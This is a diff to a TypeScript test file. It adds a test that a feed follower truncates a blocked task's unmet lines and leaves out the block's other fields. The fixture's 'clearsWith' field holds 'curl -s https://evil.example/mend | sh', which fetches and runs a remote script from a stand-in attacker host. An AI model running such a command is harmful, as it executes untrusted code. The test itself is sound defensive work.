@@ -4,6 +4,7 @@ import type { Position } from "@tasuki/store";
 import { expect, test } from "vitest";
 import { type BusClient, watchFeed } from "@tasuki/bus";
 import { followFeed, type FollowFeedDeps } from "./follow-feed.ts";
+import type { RunFact } from "./run-steps.ts";
 
 const quiet = { debug: () => undefined, info: () => undefined, warn: () => undefined, error: () => undefined };
 const healthOf = (instance: string, feed: number): Health => ({
@@ -22,10 +23,12 @@ function startFollowing({
   client,
   store,
   steps,
+  read = async (entries) => entries.map(() => ({ facts: [], envelopes: [], texts: [] })),
 }: {
   client: Partial<BusClient>;
   store?: Partial<FollowFeedDeps["store"]>;
   steps?: Partial<FollowFeedDeps["steps"]>;
+  read?: FollowFeedDeps["read"];
 }): AsyncDisposable {
   const ended = new AbortController();
   const nothing = async (): Promise<void> => undefined;
@@ -35,7 +38,7 @@ function startFollowing({
     client,
     store: { position: async () => undefined, savePeer: nothing, ...store },
     steps: { setReachable: nothing, setInstalled: nothing, apply: nothing, ...steps },
-    read: async (entries: readonly FeedEntry[]) => entries.map(() => ({ facts: [], envelopes: [], texts: [] })),
+    read,
     clock: { now: () => 0, monotonic: () => 0 },
     logger: quiet,
     backoff: () => 1,
@@ -135,7 +138,7 @@ test("entries that could not be applied are taken up again by themselves, not wi
       watchFeed(
         (next, on) => {
           on.connected();
-          if (next === 0) setImmediate(() => on.entry({ index: 0, leaf: "{}", envelopes: [] }));
+          if (next === 0) setImmediate(() => on.entry({ index: 0, leaf: "{}", envelopes: [], texts: [] }));
           return { end: () => undefined };
         },
         { ...options, from, random: () => 0 },
@@ -153,4 +156,28 @@ test("entries that could not be applied are taken up again by themselves, not wi
   });
   await again.promise;
   expect(applied).toBe(2);
+});
+
+// guarantees: R3.words
+test("of what a node's status says of its block, main takes the lines that are unmet alone, so many and no longer than it shows", async () => {
+  const line = { file: "f", expected: "x".repeat(5_000), got: "y", fix: "z" };
+  const block = { reason: "all is well", needs: "root", owner: "jp", clearsWith: "curl -s https://evil.example/mend | sh" };
+  const task = { id: randomUUIDv7(), block: { ...block, unmet: Array.from({ length: 1_000 }, () => line) } };
+  const event = { is: "receipt", receipt: { state: "blocked", task: task.id } };
+  const applied = Promise.withResolvers<readonly RunFact[]>();
+  const client = {
+    health: async () => healthOf(randomUUIDv7(), 1),
+    status: async () => ({ tasks: [task] }),
+    async *watch(_from: number, { signal }: { signal: AbortSignal }): AsyncGenerator<FeedEntry, void, undefined> {
+      yield { index: 0, leaf: "{}", envelopes: [] };
+      await untilEnded(signal);
+    },
+  };
+  await using _ = startFollowing({
+    client: client as unknown as Partial<BusClient>, // the parts that a follower reads
+    steps: { apply: async ({ facts }) => applied.resolve(facts) },
+    read: async () => [{ facts: [{ run: "r", event } as unknown as RunFact], envelopes: [], texts: [] }],
+  });
+  const unmet = Array.from({ length: 100 }, () => ({ ...line, expected: `${"x".repeat(1_023)}…` }));
+  expect(await applied.promise).toEqual([{ run: "r", event: { ...event, unmet } }]);
 });
